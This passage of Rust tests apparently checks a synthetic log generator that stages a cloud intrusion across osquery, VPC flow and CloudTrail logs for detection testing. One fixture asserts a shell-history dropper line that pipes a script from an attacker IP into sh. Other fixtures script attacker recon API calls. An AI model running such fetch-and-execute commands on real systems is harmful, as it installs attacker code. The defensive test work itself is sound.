        let scenario = generate(&spec(2000, 9));
        let logins: Vec<Value> = json_lines(&scenario, OSQUERY)
            .into_iter()
            .filter(|row| row["hostIdentifier"] == HOST_IDENTIFIER && row["name"] == LOGIN_QUERY)
            .collect();
        assert_eq!(logins.len(), 1);
        let login = &logins[0];
        assert_eq!(login["action"], "added");
        assert_eq!(login["columns"]["host"], "136.24.229.194");
        assert_eq!(login["columns"]["user"], "ubuntu");
        assert_eq!(login["columns"]["type"], "user");
        assert_eq!(login["hostIdentifier"], "ip-172-31-84-73");
        assert_eq!(login["calendarTime"], "Fri Nov 27 14:03:00 2026 UTC");
        assert_eq!(login["unixTime"], 1_795_788_180);
        assert_eq!(login["decorations"]["instance_id"], "i-016e2cb69ac58c2d5");
    }

    #[test]
    fn the_shell_history_ends_with_the_dropper() {
        let scenario = generate(&spec(2000, 9));
        let history: Vec<Value> = json_lines(&scenario, OSQUERY)
            .into_iter()
            .filter(|row| row["hostIdentifier"] == HOST_IDENTIFIER)
            .filter(|row| row["name"] == SHELL_HISTORY_QUERY)
            .collect();
        assert_eq!(history.len(), 3);
        for row in &history {
            assert_eq!(row["action"], "added");
            assert_eq!(row["columns"]["uid"], "1000");
            assert_eq!(row["columns"]["history_file"], "/home/ubuntu/.bash_history");
            assert_eq!(row["calendarTime"], "Fri Nov 27 14:06:00 2026 UTC");
        }
        assert_eq!(
            history[2]["columns"]["command"],
            "curl -s http://136.24.229.194/x.sh | sh"
        );
        assert_eq!(history[2]["columns"]["time"], "1795788302");
    }

    #[test]
    fn the_ssh_flows_are_reported_as_specified() {
        let scenario = generate(&spec(2000, 9));
        let flows: Vec<_> = flow_rows(&scenario)
            .into_iter()
            .filter(|row| row["srcaddr"] == ATTACKER_IP)
            .collect();
        assert_eq!(flows.len(), 5);
        let day_start = scenario.day.start_unix();
        for (minute, row) in flows.iter().enumerate() {
            assert_eq!(row["dstaddr"], "172.31.84.73");
            assert_eq!(row["dstport"], "22");
            assert_eq!(row["protocol"], "6");
            assert_eq!(row["action"], "ACCEPT");
            assert_eq!(row["log-status"], "OK");
            assert_eq!(row["instance-id"], "i-016e2cb69ac58c2d5");
            assert_eq!(row["flow-direction"], "ingress");
            let start: i64 = row["start"].parse().expect("unix start");
            assert_eq!(start, day_start + 14 * 3600 + (2 + minute as i64) * 60);
        }
        assert!(flow_rows(&scenario)
            .iter()
            .all(|row| row["srcaddr"] != ATTACKER_IP || row["instance-id"] == INSTANCE_ID));
    }

    #[test]
    fn the_recon_calls_are_reported_as_specified() {
        let scenario = generate(&spec(2000, 9));
        let calls: Vec<Value> = cloudtrail_records(&scenario)
            .into_iter()
            .filter(|record| record["sourceIPAddress"] == HOST_PUBLIC_IP)
            .collect();
        let names: Vec<&str> = calls
            .iter()
            .filter_map(|c| c["eventName"].as_str())
            .collect();
        assert_eq!(
            names,
            [
                "GetCallerIdentity",
                "GetRole",
                "ListUsers",
                "DescribeTrails",
                "ListBuckets"
            ]
        );
        for call in &calls {
            assert_eq!(call["sourceIPAddress"], "54.164.105.138");
            assert!(call.get("errorMessage").is_none() && call.get("errorCode").is_none());
            assert_eq!(call["userIdentity"]["type"], "AssumedRole");
            assert_eq!(
                call["userIdentity"]["arn"],
                "arn:aws:sts::123456789012:assumed-role/webserver-instance-role/i-016e2cb69ac58c2d5"
            );
            assert_eq!(call["recipientAccountId"], ACCOUNT_ID);
            let time = call["eventTime"].as_str().expect("eventTime");
            assert!(time.starts_with("2026-11-27T14:05:"), "{time}");
        }
    }

    #[test]
    fn the_story_depends_on_the_day_alone() {
        let story_lines = |s: &IntrusionSpec| -> Vec<String> {
            let scenario = generate(s);
            let mut lines: Vec<String> = scenario
                .logs
                .iter()
                .filter(|log| log.log_type != CLOUDTRAIL)
                .flat_map(|log| log.lines.iter().filter(|l| mentions_story(l)).cloned())
                .collect();
            lines.extend(
                cloudtrail_records(&scenario)
                    .iter()
                    .map(Value::to_string)
                    .filter(|l| mentions_story(l)),
            );
            lines
        };
        let base = story_lines(&spec(0, 1));
        assert_eq!(base.len(), 5 + 4 + 5);
        assert_eq!(story_lines(&spec(3000, 1)), base);
        assert_eq!(story_lines(&spec(3000, 77)), base);
        let mut other_day = spec(0, 1);
        other_day.day = "2026-11-28".parse().expect("valid day");
        assert_ne!(story_lines(&other_day), base);
    }

    #[test]
    fn generation_is_deterministic_by_seed() {
        assert_eq!(generate(&spec(1500, 5)), generate(&spec(1500, 5)));
        assert_ne!(generate(&spec(1500, 5)).logs, generate(&spec(1500, 6)).logs);
    }

    #[test]
    fn background_never_touches_the_story() {
        for seed in [1, 2, 3] {
            let with = generate(&spec(4000, seed));
            let story_count: u64 = with.logs.iter().map(|log| log.story_events).sum();
            let mut mentions = 0u64;
            for log in with.logs.iter().filter(|log| log.log_type != CLOUDTRAIL) {
                mentions += log.lines.iter().filter(|l| mentions_story(l)).count() as u64;
            }
            let records = cloudtrail_records(&with);
            for record in &records {
                let text = record.to_string();
                if mentions_story(&text) {
                    mentions += 1;
                } else {
                    let name = record["eventName"].as_str().expect("eventName");
                    assert!(
                        RECON_CALLS.iter().all(|(recon, _, _)| *recon != name),
                        "{text}"
                    );
                }
            }
            assert_eq!(mentions, story_count, "seed {seed}");
            assert!(
                records.iter().any(|r| r.get("errorMessage").is_some()),
                "some background calls fail"
            );
        }
    }

    /// `Osquery.OutsideOfficeLogin`'s condition, on the raw row.
    fn outside_office_login(row: &Value) -> bool {
        let host = row["columns"]["host"].as_str().unwrap_or("");
        row["name"]
            .as_str()
            .unwrap_or("")
            .contains("logged_in_users")
            && row["action"] == "added"
            && host.parse::<std::net::IpAddr>().is_ok()
            && !host.starts_with(OFFICE_PREFIX)
    }

    #[test]
    fn only_the_story_login_raises_the_office_rule() {
        let scenario = generate(&spec(6000, 4));
        let alerts: Vec<Value> = json_lines(&scenario, OSQUERY)
            .into_iter()
            .filter(outside_office_login)
            .collect();
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0]["columns"]["user"], LOGIN_USER);
    }

    #[test]
    fn background_is_split_over_the_log_types_and_the_day() {
        let scenario = generate(&spec(1001, 2));
        let counts: Vec<(u64, u64)> = scenario
            .logs
            .iter()
            .map(|log| (log.events, log.story_events))
            .collect();
        // osquery 251 + 4, VPC flow 500 + 5, CloudTrail 250 + 5.
        assert_eq!(counts, [(255, 4), (505, 5), (255, 5)]);
        assert_eq!(
            scenario.log(VPC_FLOW).expect("vpc").lines.len(),
            505 + 1,
            "one header line"
        );
        let day_start = scenario.day.start_unix();
        let on_the_day = |t: i64| (day_start..day_start + SECONDS_PER_DAY).contains(&t);
        let mut previous = i64::MIN;
        for row in flow_rows(&scenario) {
            let start: i64 = row["start"].parse().expect("start");
            assert!(on_the_day(start) && start >= previous);
            previous = start;
        }
        for row in json_lines(&scenario, OSQUERY) {
            assert!(on_the_day(row["unixTime"].as_i64().expect("unixTime")));
            assert!(row["calendarTime"]
                .as_str()
                .expect("calendarTime")
                .ends_with("2026 UTC"));
        }
        let records = cloudtrail_records(&scenario);
        assert_eq!(records.len(), 255);
        assert!(records.iter().all(|r| r["eventTime"]
            .as_str()
            .is_some_and(|t| t.starts_with("2026-11-27T"))));
        let envelopes = json_lines(&scenario, CLOUDTRAIL);
        assert!(envelopes
            .iter()
            .all(|e| (1..=ENVELOPE_MAX_RECORDS)
                .contains(&e["Records"].as_array().map_or(0, Vec::len))));
    }

    #[test]
    fn sources_and_streams_are_one_per_log_type() {
        let scenario = generate(&spec(10, 1));
        let ids: Vec<(&str, &str, &str)> = scenario
            .logs
            .iter()
            .map(|log| {
                assert_eq!(log.meta.log_types, vec![log.log_type.to_owned()]);
                (
                    log.log_type,
                    log.meta.source_id.as_str(),
                    log.stream.as_str(),
                )
            })
            .collect();
        assert_eq!(
            ids,
            [
                (
                    "Osquery.Differential",
                    "osquery-fleet",
                    "scenario/intrusion/2026-11-27/Osquery.Differential.log"
                ),
                (
                    "AWS.VPCFlow",
                    "vpc-flow-logs",
                    "scenario/intrusion/2026-11-27/AWS.VPCFlow.log"
                ),
                (
                    "AWS.CloudTrail",
                    "cloudtrail",
                    "scenario/intrusion/2026-11-27/AWS.CloudTrail.log"
                ),
            ]
        );
    }

    #[test]
    fn uuids_have_the_version_4_shape() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..20 {
            let id = uuid(&mut rng);
            assert_eq!(id.len(), 36);
            assert_eq!(&id[14..15], "4");
            assert!(matches!(&id[19..20], "8" | "9" | "a" | "b"), "{id}");
        }
    }
}
